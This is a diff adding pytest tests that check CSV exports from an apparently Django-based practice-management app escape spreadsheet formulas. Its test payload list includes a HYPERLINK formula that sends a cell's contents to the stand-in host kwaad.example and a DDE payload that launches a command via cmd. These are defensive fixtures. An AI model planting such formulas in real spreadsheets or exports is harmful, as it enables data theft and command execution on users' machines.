@@ -5,6 +5,8 @@ test performs one attack and asserts what the attacker gets: one effect, a clear
 change."""
 
 import concurrent.futures
+import csv
+import dataclasses
 import datetime
 import io
 import json
@@ -39,6 +41,7 @@ from requests_app.roles import Role
 from tests.factories import a_register, make_user, submit
 from tests.live_http import Visitor
 from workflows.models import Notification, Purpose
+from workflows.practice_exit import archive
 
 pytestmark = pytest.mark.django_db
 
@@ -456,3 +459,91 @@ def test_parallel_posts_of_one_announcement_announce_once_and_mail_once(
     expected = practice.privacy_emails() + other_practice.privacy_emails()
     assert sorted(sent.values_list("recipient", flat=True)) == sorted(expected)
     assert 'name="key"' in client.get(path).content.decode()
+
+
+# --- Formulas in the CSV files -----------------------------------------------------------------
+FORMULAS = [
+    '=HYPERLINK("http://kwaad.example/?"&A1,"Klik")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    "\n=1+1",
+]
+
+
+def runs_as_formula(cell: str) -> bool:
+    return cell.lstrip(" \t\r\n").startswith(("=", "+", "-", "@")) and not cell.startswith("'")
+
+
+def cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_a_formula_in_a_time_note_is_text_in_the_statement(
+    client, support, handler, practice, question, formula
+):
+    from workflows.assistance import charges
+
+    charges.record_time(
+        question,
+        actor=support,
+        day=timezone.localdate(),
+        minutes=30,
+        function="Security consultant",
+        basis="chargeable",
+        note=formula,
+    )
+    client.force_login(handler)
+    month = timezone.localdate().strftime("%Y-%m")
+    response = client.get("/staff/charges/statement.csv", {"practice": practice.pk, "month": month})
+    assert response.status_code == 200
+    written = cells(response.content.decode())
+    assert [c for c in written if formula.strip() in c]  # the note is there, as text
+    assert not [c for c in written if runs_as_formula(c)]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_a_formula_in_the_register_is_text_in_its_csv(client, fg, practice, formula):
+    from requests_app.models import ProcessingActivity
+
+    a_register()
+    activity = ProcessingActivity.objects.filter(active=True).first()
+    activity.nature_nl = activity.nature = formula
+    activity.name_nl = activity.name = formula
+    activity.save()
+    client.force_login(fg)
+    response = client.get(reverse("staff:processing_register_file", args=[practice.pk, "csv"]))
+    assert response.status_code == 200
+    assert not [c for c in cells(response.content.decode()) if runs_as_formula(c)]
+    document = client.get(reverse("staff:processing_register_file", args=[practice.pk, "json"]))
+    natures = [a["nature"]["nl"] for a in json.loads(document.content)["processing"]]
+    assert formula in natures  # the JSON keeps the exact text
+
+
+def test_a_patients_formula_name_is_text_in_the_exit_archives_csv_and_exact_in_its_json(
+    platform_db, package_dir, settings, tmp_path, practice, patient
+):
+    settings.EXIT_ARCHIVE_DIR = tmp_path / "exits"
+    name = '=HYPERLINK("http://kwaad.example/?"&A1,"Jan")'
+    submit(practice, dataclasses.replace(patient, name=name))
+    submit(practice, patient, description="@SUM(1+1) -2+3")
+    result = archive.write_archive(practice, tmp_path / "out", exit_number="EX-1")
+    with pyzipper.AESZipFile(result.archive) as opened:
+        opened.setpassword(result.passphrase.encode())
+        names = opened.namelist()
+        csv_cells = [
+            cell
+            for member in names
+            if member.startswith("csv/")
+            for cell in cells(opened.read(member).decode("utf-8"))
+        ]
+        json_text = "".join(
+            opened.read(member).decode("utf-8") for member in names if member.startswith("json/")
+        )
+    assert "'" + name in csv_cells
+    assert not [c for c in csv_cells if runs_as_formula(c)]
+    assert json.dumps(name, ensure_ascii=False) in json_text
